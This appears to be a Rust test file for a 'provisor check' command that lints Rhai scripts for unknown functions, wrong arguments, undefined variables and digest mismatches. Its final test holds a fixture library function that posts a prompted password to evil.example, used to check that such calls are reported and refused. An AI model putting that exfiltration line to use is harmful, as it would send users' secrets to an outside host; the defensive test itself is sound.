//! `provisor check`.

use crate::support::{Home, script};

#[track_caller]
fn finds(text: &str, says: &[&str]) {
    let home = Home::new();
    home.write("s.rhai", text);
    let ran = home.run("check s.rhai").ended(3).said(says);
    assert!(
        ran.stderr.contains("s.rhai:") && ran.stdout.is_empty(),
        "{}",
        ran.stderr
    );
}

#[test]
fn the_scripts_of_the_repository_pass() {
    let home = Home::new();
    let names = [
        "hello.rhai",
        "jrni_companies.rhai",
        "notify.rhai",
        "onboard.rhai",
        "onboard_and_notify.rhai",
    ]
    .map(script);
    let words: Vec<&str> = std::iter::once("check")
        .chain(names.iter().map(String::as_str))
        .collect();
    let _ = home
        .run_with_words(&words)
        .ended(0)
        .said(&["onboard.rhai: no mistakes found"]);
    assert!(!home.provisor().exists(), "nothing is opened");
}

#[test]
fn unknown_functions_and_modules_are_reported() {
    finds(
        "mobsted::conect()",
        &[
            "there is no function `mobsted::conect`",
            "did you mean `mobsted::connect`?",
        ],
    );
    finds(
        "mobsteed::connect()",
        &["there is no module `mobsteed`", "did you mean `mobsted`?"],
    );
    finds(
        "let p = mobsted::connect();\np.ensure_tennant(\"a\");",
        &["no method `ensure_tennant`", "s.rhai:2:3"],
    );
    finds(
        "fn helper(a) { a }\nhelpr(1)",
        &["there is no function `helpr`", "did you mean `helper`?"],
    );
    finds("let f = |x| x; f(1)", &["`f` is a variable", "f.call(..)"]);
}

#[test]
fn wrong_argument_counts_and_unknown_option_keys_are_reported() {
    finds(
        "let p = mobsted::connect(); p.ensure_tenant()",
        &["does not take 0 arguments", "ensure_tenant("],
    );
    finds(
        "fn one(a) { a }\none(1, 2)",
        &["`one` does not take 2 arguments", "it takes 1 argument"],
    );
    finds("sleep(1, 2)", &["`sleep` does not take 2 arguments"]);
    finds(
        "let p = mobsted::connect(); p.ensure_tenant(\"a@b.example\", #{ adobt: true })",
        &["there is no option `adobt`", "did you mean `adopt`?"],
    );
    // Two platforms have a method of this name: the options that both require are required.
    finds(
        "let s = sparrow::connect(); s.send_sms(#{ text: \"hello\" })",
        &["the option `recipients` is missing"],
    );
    let home = Home::new();
    home.write(
        "s.rhai",
        "let s = sparrow::connect(); s.send_sms(#{ text: \"hello\", recipients: \"+4915112345678\" })",
    );
    let _ = home.run("check s.rhai").ended(0);
}

#[test]
fn imports_and_the_declaration_are_checked() {
    let home = Home::new();
    home.write("lib.rhai", "fn one() { nothing_here(1) }\n");
    home.write("s.rhai", "import \"lib\" as lib;\nlib::one();\nlib::two();\n");
    let ran = home.run("check s.rhai").ended(3);
    let _ = ran.said(&[
        "there is no function `lib::two`",
        "lib.rhai:1:12",
        "`nothing_here`",
    ]);
    finds("/// @param other string\nfn main(email) {}", &["other"]);
    finds("let x = ;", &["s.rhai:1:9"]);
    finds("import \"nowhere\" as n;", &["nowhere"]);
    let _ = home.run("check nowhere.rhai").ended(3).said(&["cannot be read"]);
}

#[test]
fn code_that_depends_on_runtime_types_is_not_reported() {
    let home = Home::new();
    home.write(
        "s.rhai",
        "fn main(rows) {\n  let m = #{ step: |x| x + 1 };\n  m.step(1);\n  let out = rows.map(|r| r.name.to_upper());\n  let f = Fn(\"main\");\n  print(type_of(f)); out.filter(|x| x != ()).len();\n  try { throw #{ kind: \"x\" } } catch (e) { print(e.kind) }\n  attempt(|| 1).ok; `${rows.len()}`.contains(\"1\");\n  switch 1 { 1 => now(), _ => uuid() }\n}\n",
    );
    let _ = home.run("check s.rhai").ended(0);
}

#[test]
fn undefined_variables_are_reported() {
    finds(
        "fn main(email) {\n    let tenant = emial;\n    tenant\n}",
        &[
            "there is no variable `emial` here",
            "s.rhai:2:18",
            "did you mean `email`?",
        ],
    );
    finds(
        "let rate = 2;\nfn price(n) { n * rate }\nprice(1)",
        &["s.rhai:2:19", "functions cannot see variables outside them"],
    );
    finds(
        "let list = [1];\nfor item in list { print(item) }\nitem",
        &[
            "s.rhai:3:1",
            "it exists only in the block in which it is declared",
        ],
    );
    finds(
        "print(total);\nlet total = 1;",
        &["s.rhai:1:7", "it is declared further down"],
    );
    finds(
        "let x = undefined;",
        &["`undefined`", "the empty value is written `()`"],
    );
    finds("let x = mobsted;", &["it is a module"]);
    finds(
        "const RATE = 2;\nfn f() { global::RAET }\nf()",
        &[
            "there is no constant `global::RAET`",
            "did you mean `global::RATE`?",
        ],
    );
    finds(
        "let rate = 2;\nfn f() { global::rate }\nf()",
        &[
            "there is no constant `global::rate`",
            "`global::` contains only constants",
        ],
    );
}

#[test]
fn each_undefined_variable_is_reported_once() {
    let home = Home::new();
    home.write("s.rhai", "print(a); print(a); print(b);");
    let ran = home.run("check s.rhai").ended(3);
    assert_eq!(
        ran.stderr.matches("there is no variable `a`").count(),
        1,
        "{}",
        ran.stderr
    );
    assert_eq!(
        ran.stderr.matches("there is no variable `b`").count(),
        1,
        "{}",
        ran.stderr
    );
}

#[test]
fn defined_variables_of_every_kind_are_not_reported() {
    let home = Home::new();
    home.write("lib.rhai", "fn one() { 1 }\nexport const TWO = 2;");
    home.write(
        "s.rhai",
        "#!/usr/bin/env provisor\n\
         import \"lib\" as lib;\n\
         const RATE = 2;\n\
         fn double() { this * global::RATE }\n\
         fn open() { seen }\n\
         fn main(list, name) {\n\
             let sum = 0;\n\
             for (item, i) in list { sum += item + i }\n\
             let add = |x, y| { let z = x + y; z + sum };\n\
             let found = list.map(|x| |y| x + y + name);\n\
             try { add.call(1, 2) } catch (why) { print(why) }\n\
             let text = `${name} ${#{ key: name, other: lib::TWO }.key}`;\n\
             let seen = switch sum { 1 | 2 => name, 3 if true => text, _ => () };\n\
             if is_def_var(\"maybe\") { print(maybe) }\n\
             open!();\n\
             let m = #{ list: list, f: |v| v + 1 };\n\
             m.list[sum].x?.y = sum.double() + lib::one();\n\
             do { let n = 1; } until true;\n\
             m\n\
         }\n",
    );
    let _ = home.run("check s.rhai").ended(0);
}

#[test]
fn run_expect_runs_only_the_script_with_that_digest() {
    let home = Home::new();
    home.write("lib.rhai", "fn one() { 1 }");
    home.write("s.rhai", "import \"lib\" as lib;\nfn main() { lib::one() }");
    let checked = home.run("check s.rhai").ended(0);
    let digest = checked.stderr.split(['(', ')']).nth(1).unwrap().to_owned();
    let expect = format!("run s.rhai --expect {digest}");
    let ran = home.run(&expect).ended(0);
    assert_eq!(ran.stdout.trim(), "result  1");
    let runs = home.run("runs list --json").ended(0);
    let id = runs
        .stdout
        .split("\"id\":\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap();
    let shown = home.run(&format!("runs show {id}")).ended(0);
    assert!(shown.stdout.contains(&digest), "{}", shown.stdout);
    // The import counts, too.
    home.write("lib.rhai", "fn one() { 2 }");
    let ran = home.run(&expect).ended(3);
    assert_eq!(ran.stdout, "");
    let _ = ran.said(&["the script is not the expected one: it has the digest sha256:"]);
    let _ = home
        .run("run s.rhai --expect 9f2c")
        .ended(2)
        .said(&["`9f2c` is not a digest", "provisor check SCRIPT"]);
}

#[test]
fn a_library_that_acts_is_reported_and_refused_while_it_runs() {
    let home = Home::new();
    home.write(
        "helper.rhai",
        "//! library\nfn steal() { http::post(\"https://evil.example\", `${ask_secret(\"Password\")}`) }",
    );
    home.write("s.rhai", "import \"helper\" as h;\nfn main() { h::steal() }");
    let _ = home.run("check s.rhai").ended(3).said(&[
        "a library cannot call `http::post`: it has no authority of its own",
        "a library cannot call `ask_secret`: it has no authority of its own",
        "helper.rhai:2:20",
    ]);
    let _ = home
        .run("run s.rhai --sandbox")
        .ended(5)
        .said(&["a library cannot call `ask_secret`", "helper.rhai:2"]);
}
